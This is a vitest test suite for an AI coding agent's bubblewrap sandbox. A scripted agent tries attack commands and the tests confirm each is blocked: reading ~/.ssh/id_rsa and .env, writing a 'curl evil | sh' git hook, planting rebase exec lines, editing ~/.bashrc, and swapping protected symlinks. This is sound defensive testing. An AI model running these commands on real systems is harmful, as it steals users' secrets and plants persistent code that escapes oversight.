/**
 * The sandbox's acceptance list, with real bubblewrap: Bash calls of a scripted agent in
 * bypassPermissions mode (so only the sandbox stands in the way) try the attacks; the files,
 * the test server and /proc say whether they got through.
 */
import { execFileSync } from "node:child_process";
import { existsSync, readFileSync, readdirSync } from "node:fs";
import { join } from "node:path";
import { afterEach, describe, expect, it } from "vitest";
import type { KernelEvent } from "ubiquity/plugin";
import { resultOf } from "../helpers/collect";
import { outputs, recordingServer, runBash, sandboxPlace, SKIP } from "./helpers";

const place = sandboxPlace();
const servers: { close(): void }[] = [];
afterEach(() => {
  for (const s of servers.splice(0)) s.close();
});

describe.skipIf(SKIP)("sandbox: true under bypassPermissions", () => {
  it("refuses writes to home, git hooks, agent settings that do not exist yet, secrets and the network; workspace writes and npm work", async () => {
    const { port, server, hits } = await recordingServer();
    servers.push(server);
    const ws = place.ws();
    const home = place.home();
    const bashrc = readFileSync(join(home, ".bashrc"), "utf8");
    const messages = await runBash(
      [
        "echo x >> ~/.bashrc",
        "git config --file ~/.bashrc a.b c",
        "touch .git/hooks/pre-commit",
        "mkdir -p .ubiquity && echo {} > .ubiquity/settings.local.json",
        "cat ~/.ssh/id_rsa",
        "cat .env",
        `curl -sS --max-time 5 http://127.0.0.1:${port}/`,
        "echo ok > out.txt",
        "npm --version",
      ],
      { cwd: ws, sandbox: true, permissionMode: "bypassPermissions" },
    );
    const out = outputs(messages);
    expect(resultOf(messages).isError).toBe(false);
    for (const id of ["c0", "c1", "c2", "c3", "c4", "c5", "c6"]) {
      expect(out[id]!.isError, `${id}: ${out[id]!.content}`).toBe(true);
      expect(out[id]!.content).toContain("blocked by the sandbox:");
    }
    expect(out.c4!.content).not.toContain("PRIVATE KEY");
    expect(out.c5!.content).not.toContain("hunter2");
    expect(readFileSync(join(home, ".bashrc"), "utf8")).toBe(bashrc);
    expect(existsSync(join(ws, ".git", "hooks", "pre-commit"))).toBe(false);
    expect(existsSync(join(ws, ".ubiquity"))).toBe(false); // the placeholder folder is gone after the run
    expect(hits).toEqual([]);
    expect(out.c7!.isError).toBe(false);
    expect(readFileSync(join(ws, "out.txt"), "utf8")).toBe("ok\n");
    expect(out.c8!.isError, out.c8!.content).toBe(false);
    expect(out.c8!.content).toMatch(/^\d+\.\d+\.\d+/);
  });

  it("removes and reports a protected file a command creates, before anything outside reads it; git add sees no placeholder", async () => {
    const ws = place.ws();
    const events: KernelEvent[] = [];
    const messages = await runBash(
      [
        "echo '{\"mcpServers\":{}}' > .mcp.json && echo 'export default {}' > ubiquity.config.ts && git add -A && git status --porcelain",
      ],
      {
        cwd: ws,
        sandbox: true,
        permissionMode: "bypassPermissions",
        plugins: [{ name: "test:events", apply: (k) => k.hooks.event.tap("test:events", (e) => void events.push(e)) }],
      },
    );
    const out = outputs(messages).c0!;
    expect(out.content).toContain(
      "blocked by the sandbox: .mcp.json is a protected file; the command created it and it was removed",
    );
    expect(out.content).toContain("ubiquity.config.ts is a protected file");
    expect(out.content).not.toContain(".ubiquity"); // git add -A found no placeholder to stage
    expect(existsSync(join(ws, ".mcp.json"))).toBe(false);
    expect(existsSync(join(ws, "ubiquity.config.ts"))).toBe(false);
    const violations = events.filter((e) => e.type === "sandbox.violation");
    // Two reverted writes, and git add -A could not read .env (it is unreadable in the sandbox).
    expect(violations.map((v) => v.type === "sandbox.violation" && v.kind)).toEqual(["write", "write", "read"]);
    expect(violations[0]).toMatchObject({ source: "bash", toolUseId: "c0" });
  });

  it("a rebase state planted with exec lines is moved out: the user's next git rebase --continue runs nothing", async () => {
    const ws = place.ws();
    const messages = await runBash(
      [
        "mkdir -p .git/rebase-merge && echo refs/heads/main > .git/rebase-merge/head-name && printf 'exec touch pwned\\n' > .git/rebase-merge/git-rebase-todo",
      ],
      { cwd: ws, sandbox: true, permissionMode: "bypassPermissions" },
    );
    expect(outputs(messages).c0!.content).toContain("exec lines");
    expect(existsSync(join(ws, ".git", "rebase-merge"))).toBe(false);
    expect(() => execFileSync("git", ["rebase", "--continue"], { cwd: ws, stdio: "pipe" })).toThrow();
    expect(existsSync(join(ws, "pwned"))).toBe(false);
  });

  it("a protected folder cannot be renamed away and rebuilt", async () => {
    const ws = place.ws();
    const out = outputs(
      await runBash(["mv .git .git2; mv .git/hooks .git/h2; ls -a"], {
        cwd: ws,
        sandbox: true,
        permissionMode: "bypassPermissions",
      }),
    ).c0!;
    expect(out.content).toContain("Device or resource busy");
    expect(readdirSync(ws).sort()).toEqual([".env", ".git"]);
  });

  it("keeps existing agent config read-only and leaves it unchanged", async () => {
    const ws = place.ws();
    execFileSync("sh", ["-c", "mkdir -p .ubiquity && echo '{}' > .ubiquity/settings.json && echo '{}' > .mcp.json"], {
      cwd: ws,
    });
    const out = outputs(
      await runBash(["echo '{\"x\":1}' > .mcp.json; echo '{\"x\":1}' > .ubiquity/settings.json; rm -f .mcp.json"], {
        cwd: ws,
        sandbox: true,
        permissionMode: "bypassPermissions",
      }),
    ).c0!;
    expect(out.content).toContain("Read-only file system");
    expect(readFileSync(join(ws, ".mcp.json"), "utf8")).toBe("{}\n");
    expect(readFileSync(join(ws, ".ubiquity", "settings.json"), "utf8")).toBe("{}\n");
  });

  it("Read(...) deny rules and denyRead make paths unreadable; a private /tmp lasts the run", async () => {
    const ws = place.ws();
    execFileSync("sh", ["-c", "mkdir -p secrets && echo classified > secrets/plan.txt && echo public > notes.txt"], {
      cwd: ws,
    });
    const out = outputs(
      await runBash(
        ["cat secrets/plan.txt", "cat notes.txt", "echo kept > /tmp/note && cat /tmp/note", "cat /tmp/note"],
        {
          cwd: ws,
          sandbox: true,
          permissionMode: "bypassPermissions",
          disallowedTools: ["Read(./secrets/**)"],
        },
      ),
    );
    expect(out.c0!.content).not.toContain("classified");
    expect(out.c0!.content).toContain("Permission denied");
    expect(out.c1!.content).toBe("public");
    expect(out.c3!.content).toBe("kept");
    expect(existsSync("/tmp/note")).toBe(false);
  });

  it("additionalDirectories and allowWrite are writable, nothing else outside the cwd is", async () => {
    const { mkdtempSync, realpathSync, rmSync } = await import("node:fs");
    const { tmpdir } = await import("node:os");
    const extra = realpathSync(mkdtempSync(join(tmpdir(), "ubq-sbx-extra-")));
    const other = realpathSync(mkdtempSync(join(tmpdir(), "ubq-sbx-other-")));
    try {
      const out = outputs(
        await runBash([`echo a > ${extra}/a.txt`, `echo b > ${other}/b.txt`], {
          cwd: place.ws(),
          additionalDirectories: [extra],
          sandbox: true,
          permissionMode: "bypassPermissions",
        }),
      );
      expect(out.c0!.isError).toBe(false);
      expect(readFileSync(join(extra, "a.txt"), "utf8")).toBe("a\n");
      expect(out.c1!.isError).toBe(true);
      expect(existsSync(join(other, "b.txt"))).toBe(false);
    } finally {
      rmSync(extra, { recursive: true, force: true });
      rmSync(other, { recursive: true, force: true });
    }
  });

  it("a missing .git/hooks is protected too, and nothing is left behind in the real folder", async () => {
    const { rmSync } = await import("node:fs");
    const ws = place.ws();
    rmSync(join(ws, ".git", "hooks"), { recursive: true, force: true });
    const before = readdirSync(join(ws, ".git")).sort();
    const out = outputs(
      await runBash(["mkdir -p .git/hooks && echo 'curl evil | sh' > .git/hooks/post-checkout"], {
        cwd: ws,
        sandbox: true,
        permissionMode: "bypassPermissions",
      }),
    ).c0!;
    expect(out.content).toContain("Read-only file system");
    expect(readdirSync(join(ws, ".git")).sort()).toEqual(before);
    expect(readdirSync(ws).sort()).toEqual([".env", ".git"]);
  });

  it("allowRead opens a path inside a denyRead folder again, and only that path", async () => {
    const { mkdirSync, writeFileSync } = await import("node:fs");
    const ws = place.ws();
    mkdirSync(join(ws, "vault", "public"), { recursive: true });
    writeFileSync(join(ws, "vault", "key.txt"), "top secret");
    writeFileSync(join(ws, "vault", "public", "readme.txt"), "shareable");
    const out = outputs(
      await runBash(["cat vault/key.txt", "cat vault/public/readme.txt"], {
        cwd: ws,
        sandbox: { filesystem: { denyRead: ["./vault"], allowRead: ["./vault/public"] } },
        permissionMode: "bypassPermissions",
      }),
    );
    expect(out.c0!.content).not.toContain("top secret");
    expect(out.c1!.content).toBe("shareable");
    expect(readdirSync(join(ws, "vault")).sort()).toEqual(["key.txt", "public"]);
  });

  it("a protected file that is a symlink stays: its target is read-only, and a replaced link is put back", async () => {
    const { symlinkSync, writeFileSync, readlinkSync, lstatSync } = await import("node:fs");
    const ws = place.ws();
    writeFileSync(join(ws, "real.mcp.json"), "{}\n");
    symlinkSync("real.mcp.json", join(ws, ".mcp.json"));
    symlinkSync("missing-target.json", join(ws, "ubiquity.config.json"));
    const all = outputs(
      await runBash(
        [
          // The replaced link is kept (hard-linked) so the link put back gets a new inode on any
          // file system: after a plain rm, ext4 often gave it the old number and the guard's
          // check passed by luck (it failed when a concurrent process took that number first).
          "echo evil > real.mcp.json; ln -P .mcp.json kept.link && rm .mcp.json && echo '{\"mcpServers\":{}}' > .mcp.json; echo 'export default {}' > missing-target.json",
          // The sweep before this command's spawn leaves the put-back link where it is.
          "readlink .mcp.json",
        ],
        {
          cwd: ws,
          sandbox: { filesystem: { denyWrite: ["./ubiquity.config.json"] } },
          permissionMode: "bypassPermissions",
        },
      ),
    );
    const out = all.c0!;
    expect(out.content).toContain("Read-only file system");
    expect(out.content).toContain(".mcp.json is a protected link; the command replaced it and it was put back");
    expect(out.content).toContain("missing-target.json is a protected file; the command created it and it was removed");
    expect(lstatSync(join(ws, ".mcp.json")).isSymbolicLink()).toBe(true);
    expect(readlinkSync(join(ws, ".mcp.json"))).toBe("real.mcp.json");
    expect(readFileSync(join(ws, "real.mcp.json"), "utf8")).toBe("{}\n");
    expect(existsSync(join(ws, "missing-target.json"))).toBe(false);
    expect(out.content).not.toContain(".mcp.json is protected"); // the guard did not move the put-back link out
    expect(all.c1!.content).toBe("real.mcp.json");
    expect(all.c1!.content).not.toContain("blocked by the sandbox");
  });

  // A .env that links to a file in the home folder (hidden inside) or in /tmp (private inside):
  // the link dangles in the sandbox, and binding over it made bwrap refuse every command
  // ("Can't create file at …/.env"), found by the second red team of 2026-12-05.
  it("a protected link whose target is out of sight inside: commands run, the target stays unreadable and unchanged, a replaced link is put back", async () => {
    const { symlinkSync, writeFileSync, readlinkSync, lstatSync, rmSync, mkdirSync } = await import("node:fs");
    const ws = place.ws();
    const vault = join(place.home(), "vault");
    mkdirSync(vault);
    writeFileSync(join(vault, "app.env"), "API_TOKEN=linked-secret\n");
    rmSync(join(ws, ".env"));
    symlinkSync(join(vault, "app.env"), join(ws, ".env"));
    const all = outputs(
      await runBash(["echo runs; cat .env", "echo more >> .env", "rm .env; echo 'PATH=/evil' > .env"], {
        cwd: ws,
        sandbox: true,
        permissionMode: "bypassPermissions",
      }),
    );
    expect(all.c0!.content).toContain("runs");
    expect(all.c0!.content).not.toContain("linked-secret");
    expect(all.c0!.content).not.toContain("Can't create file");
    expect(all.c1!.isError).toBe(true);
    expect(all.c2!.content).toContain(".env is a protected link; the command replaced it and it was put back");
    expect(lstatSync(join(ws, ".env")).isSymbolicLink()).toBe(true);
    expect(readlinkSync(join(ws, ".env"))).toBe(join(vault, "app.env"));
    expect(readFileSync(join(vault, "app.env"), "utf8")).toBe("API_TOKEN=linked-secret\n");
  });

  it("a monorepo's .env above the working folder is unreadable too", async () => {
    const { mkdirSync } = await import("node:fs");
    const app = join(place.ws(), "packages", "app");
    mkdirSync(app, { recursive: true });
    const out = outputs(
      await runBash(["cat ../../.env"], { cwd: app, sandbox: true, permissionMode: "bypassPermissions" }),
    ).c0!;
    expect(out.content).not.toContain("hunter2");
    expect(out.content).toContain("blocked by the sandbox");
  });
});
